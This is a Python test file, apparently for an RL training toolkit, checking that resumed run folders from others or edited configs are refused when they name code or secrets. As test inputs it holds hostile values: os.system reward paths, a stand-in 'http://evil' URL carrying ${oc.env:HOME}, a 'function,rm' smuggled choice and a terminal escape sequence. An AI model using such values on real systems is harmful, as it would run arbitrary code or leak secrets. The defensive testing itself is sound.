"""Folders of runs from elsewhere: what they name isn't run, unless it is trusted."""

from __future__ import annotations

import json
import shutil
import stat
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from alignzoo import compose
from alignzoo.cli.main import main
from alignzoo.common import cache, folder
from alignzoo.config import load_run
from alignzoo.config.registry import GROUPS, Registry
from alignzoo.config.strangers import TRUST
from alignzoo.runs import single
from alignzoo.settings import UserError

TINY = [
    "algorithm=grpo", "data=exact", "data.prompts=4", "data.vocabulary=3", "data.length=2", "data.warmup_steps=2",
    "generation.max_new_tokens=2", "rollout.prompts=2", "rollout.samples=2", "trainer.batch=4", "trainer.max_steps=2",
    "trainer.save_steps=1", "trainer.eval_prompts=2", "model.config.hidden_size=16", "model.config.intermediate_size=16",
    "model.config.num_hidden_layers=1", "model.config.num_attention_heads=2", "model.config.num_key_value_heads=2",
]  # fmt: skip
LEAVES = "from pathlib import Path\nPath('ran').touch()\n\n"
CODE = {
    "left_reward.py": "def score(completions):\n    return [1.0] * len(completions)\n",
    "mine/left_metric.py": "def left_metric(completions):\n    return completions.length\n",
}


@pytest.fixture(autouse=True)
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder with code that leaves a file `ran` when it is imported."""
    monkeypatch.chdir(tmp_path)
    for path, code in CODE.items():
        Path(path).parent.mkdir(exist_ok=True)
        Path(path).write_text(LEAVES + code)
    return tmp_path


def begun(run: str, *overrides: str) -> Path:
    cfg = compose([*TINY, *overrides, f"run_dir={run}"])
    Path(run).mkdir()
    with folder.begun(Path(run), single.identity(cfg)):
        pass
    Path("ran").unlink(missing_ok=True)
    return Path(run)


ASKED: dict[str, tuple[list[str], dict[str, str]]] = {
    "reward": (["reward=function", "reward.path=left_reward:score"], {"reward.path": "left_reward:score"}),
    "gold": (["gold=function", "gold.path=left_reward.score"], {"gold.path": "left_reward.score"}),
    "part": (
        ["reward=sum", "reward.parts={a: {kind: max, parts: {b: {kind: function, path: os.system}}}}"],
        {"reward.parts.a.parts.b.path": "os.system"},
    ),
    "our own module": (["reward=function", "reward.path=alignzoo.errors:require"], {"reward.path": "alignzoo.errors:require"}),
    "plugins": (["plugins_dir=mine"], {"plugins_dir": "mine"}),
    "model": (["model.trust_remote_code=true"], {"model.trust_remote_code": "True"}),
    "kernel": (["model.attention=evil/kernels"], {"model.attention": "evil/kernels"}),
    "token": (["reward=http", "reward.url=http://evil", "reward.token=HOME"], {"reward.token": "HOME"}),
    "environment": (["reward=http", "reward.url=http://evil/${oc.env:HOME}"], {"reward.url": "http://evil/${oc.env:HOME}"}),
}  # fmt: skip


@pytest.mark.parametrize("kind", ASKED)
def test_what_a_run_from_elsewhere_asks_for_is_listed_and_refused(kind: str, capsys: pytest.CaptureFixture[str]) -> None:
    overrides, asked = ASKED[kind]
    run = begun("run", *overrides)
    compose([f"resume={run}"])  # one's own
    compose([f"resume={shutil.copytree(run, 'copy')}"])
    (run / "origin").unlink()
    Path("ran").unlink(missing_ok=True)
    capsys.readouterr()
    assert main(["train", f"resume={run}"]) == 2
    assert capsys.readouterr().err.splitlines() == [
        "alignzoo: run was not begun by you here, or its config.yaml was edited (origin would tell), and asks for "
        + ", ".join(f"{key}={value}" for key, value in asked.items()),
        "that runs code or reads secrets: if you have looked at it and trust it, add trust=true",
    ]
    assert not Path("ran").exists()
    assert compose([f"resume={run}", "trust=true"]).choices == compose([*TINY, *overrides]).choices


def test_a_run_that_asks_for_nothing_goes_on_wherever_it_comes_from() -> None:
    run = begun("run")
    (run / "origin").unlink()
    assert compose([f"resume={run}"]).seed == 0


def test_an_edited_config_is_a_strangers() -> None:
    run = begun("run", "reward=function", "reward.path=left_reward:score")
    edited = (run / "config.yaml").read_text().replace("left_reward:score", "os:system")
    (run / "config.yaml").write_text(edited)
    with pytest.raises(UserError, match=r"asks for reward\.path=os:system\n"):
        load_run(run)


@pytest.mark.parametrize("choices", [{"hydra": "{callbacks: {a: {_target_: left_reward.score}}}"}, {"plugins_dir": "mine"}, []])
def test_choices_are_options_of_groups_and_no_other_overrides(choices: Any) -> None:
    run = begun("run")
    saved = yaml.safe_load((run / "config.yaml").read_text())
    saved["choices"] = saved["choices"] | choices if choices else choices
    (run / "config.yaml").write_text(yaml.dump(saved))
    with pytest.raises(UserError, match=r"config\.yaml is not the config of a run"):
        load_run(run, trust=True)
    assert not Path("ran").exists()


@pytest.mark.parametrize("name", ["'function'", " function", '"function"', "function,rm", "${oc.env:HOME}"])
def test_an_option_in_choices_is_a_name_and_nothing_that_hydra_reads_as_one(name: str) -> None:
    """Quoted or padded, it would not be looked up, and be taken all the same."""
    run = begun("run", "reward=function", "reward.path=left_reward:score")
    config = yaml.safe_load((run / "config.yaml").read_text())
    config["choices"]["reward"] = name
    (run / "config.yaml").write_text(yaml.safe_dump(config))
    with pytest.raises(UserError, match=r"choices.reward=.* is no option's name$|asks for"):
        load_run(run)
    assert not Path("ran").exists()


def test_a_resolver_whose_name_is_put_together_reads_the_environment_too() -> None:
    run = begun("run", "label=env")
    config = yaml.safe_load((run / "config.yaml").read_text())
    config["reward"]["url"] = "http://h/${oc.${label}:HOME}"
    (run / "config.yaml").write_text(yaml.safe_dump(config))
    with pytest.raises(UserError, match=r"asks for reward.url=http://h/\$\{oc.\$\{label\}:HOME\}"):
        load_run(run)


def test_every_setting_that_names_code_or_a_secret_is_marked() -> None:
    """Those that read what such a name stands for are few, and a new one has to be marked as these are, but for what the
    program that asks has handed over itself."""
    marked = {
        (name, f) for group in GROUPS[:-1] for name in Registry().names(group) if not Registry().get(group, name).preset
        for f, about in Registry().load(group, name).__dataclass_fields__.items() if TRUST in about.metadata
    }  # fmt: skip
    assert marked == {("function", "path"), ("http", "token"), ("judge", "token")}
    package = Path(single.__file__).parents[1]
    readers = {path.relative_to(package).as_posix() for path in package.rglob("*.py") if "imports.current(" in path.read_text()}
    assert readers == {"rewards/function.py", "config/registry.py", "config/handed.py"}


@pytest.mark.parametrize("value", ["yes", "null"])
def test_trust_is_said_plainly(value: str) -> None:
    run = begun("run", "plugins_dir=mine")
    (run / "origin").unlink()
    with pytest.raises(UserError):
        compose([f"resume={run}", f"trust={value}"])
    with pytest.raises(UserError, match="trust=true is about the run that resume=RUN names: leave it out"):
        single.check(compose([*TINY, "trust=true"]))


def test_sampling_loads_no_reward_of_a_run_from_elsewhere(capsys: pytest.CaptureFixture[str]) -> None:
    overrides = ["reward=function", "reward.path=left_reward:score", "plugins_dir=mine", "metrics=[left_metric]"]
    assert main(["train", *TINY, *overrides, "run_dir=run"]) == 0
    (Path("run") / "origin").write_text("0" * 64)
    before = (Path("run") / "config.yaml").read_bytes()

    def sampled(*given: str) -> tuple[str, bool]:
        for name in [name for name in sys.modules if "left_" in name]:
            del sys.modules[name]
        Path("ran").unlink(missing_ok=True)
        capsys.readouterr()
        assert main(["sample", "run", "-n", "1", *given]) == 0
        told = capsys.readouterr()
        return told.out + told.err, Path("ran").exists()

    told, ran = sampled()
    assert "names reward.path=left_reward:score, plugins_dir=mine; --trust does" in told and "[reward" not in told and not ran
    assert sampled("--no-scores")[1] is False
    told, ran = sampled("--trust")
    assert "[reward 1]" in told and ran
    assert (Path("run") / "config.yaml").read_bytes() == before


def test_what_sampling_can_do_without_isnt_asked_for_but_code_of_the_model_is() -> None:
    run = begun("run", "model.trust_remote_code=true", "reward=function", "reward.path=os:system")
    (run / "origin").unlink()
    with pytest.raises(UserError, match=r"asks for model.trust_remote_code=True\n.*add --trust$"):
        load_run(run, judges=False, option="--trust")


# --- the key ---


def test_the_key_is_the_users_alone_and_one_that_can_be_guessed_is_made_again(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("ALIGNZOO_CACHE", str(tmp_path / "cache"))
    key = tmp_path / "cache" / "key"
    digest = cache.keyed(b"config")
    assert stat.S_IMODE(key.stat().st_mode) == 0o600 and len(key.read_bytes()) == 32
    assert cache.keyed(b"config") == digest != cache.keyed(b"confih")
    key.write_bytes(b"")
    assert cache.keyed(b"config") != digest and len(key.read_bytes()) == 32
    assert "key is damaged (it has not 32 bytes)" in capsys.readouterr().err


def test_where_no_key_can_be_kept_it_is_said_and_the_run_is_nobodys(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "file").touch()
    monkeypatch.setenv("ALIGNZOO_CACHE", str(tmp_path / "file" / "cache"))
    run = begun("run", "plugins_dir=mine")
    assert sorted(path.name for path in run.iterdir()) == ["config.yaml"]
    assert "no key can be kept" in capsys.readouterr().err
    (run / "origin").write_text("")
    with pytest.raises(UserError, match="was not begun by you here"):
        load_run(run)


def test_a_file_called_origin_of_somebodys_own_is_not_taken_for_ours(tmp_path: Path) -> None:
    run = tmp_path / "run"
    run.mkdir()
    (run / "origin").write_text("where I come from")
    assert folder.strangers(run) == ["origin"]
    (run / "origin").write_text("0" * 64)
    assert folder.strangers(run) == []


def test_the_report_of_a_strangers_run_steers_no_terminal(capsys: pytest.CaptureFixture[str]) -> None:
    for seed in (0, 1):
        assert main(["train", *TINY, f"seed={seed}", f"run_dir=runs/{seed}"]) == 0
        summary = Path(f"runs/{seed}/summary.json")
        summary.write_text(json.dumps(json.loads(summary.read_text()) | {"algorithm": "grpo\x1b]0;owned\x07"}))
    capsys.readouterr()
    assert main(["report", "runs"]) == 0
    told = capsys.readouterr()
    assert "\x1b]0" not in told.out + told.err and "\\x1b]0;owned\\x07" in told.out
